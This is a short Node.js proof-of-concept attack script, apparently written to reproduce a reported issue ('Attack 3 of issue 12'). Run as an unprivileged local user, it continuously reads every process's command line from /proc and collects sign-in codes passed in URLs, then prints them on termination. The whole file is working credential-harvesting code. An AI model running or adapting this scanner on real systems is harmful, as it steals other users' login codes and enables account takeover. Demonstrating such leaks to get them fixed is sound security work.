// Attack 3 of issue 12, run as another local user (uid 65534): read every process's argv
// (/proc/<pid>/cmdline, world-readable) until stopped, and print every sign-in code seen there.
import { readdirSync, readFileSync } from "node:fs";

const pattern = /(?:[?&]code=|#login=)([A-Za-z0-9_-]{43})/;
const found = new Map();
let scans = 0;

function scan() {
  scans++;
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const argv = readFileSync(`/proc/${name}/cmdline`, "utf8");
      const match = pattern.exec(argv);
      if (match && !found.has(match[1])) found.set(match[1], argv.replace(/\0/g, " ").slice(0, 300));
    } catch {
      // Exited meanwhile.
    }
  }
}

const timer = setInterval(scan, 2);
process.stdout.write(`${JSON.stringify({ watching: true, uid: process.getuid() })}\n`);
process.on("SIGTERM", () => {
  clearInterval(timer);
  scan();
  process.stdout.write(
    `${JSON.stringify({ scans, found: [...found].map(([code, argv]) => ({ code, argv })) })}\n`,
  );
  process.exit(0);
});
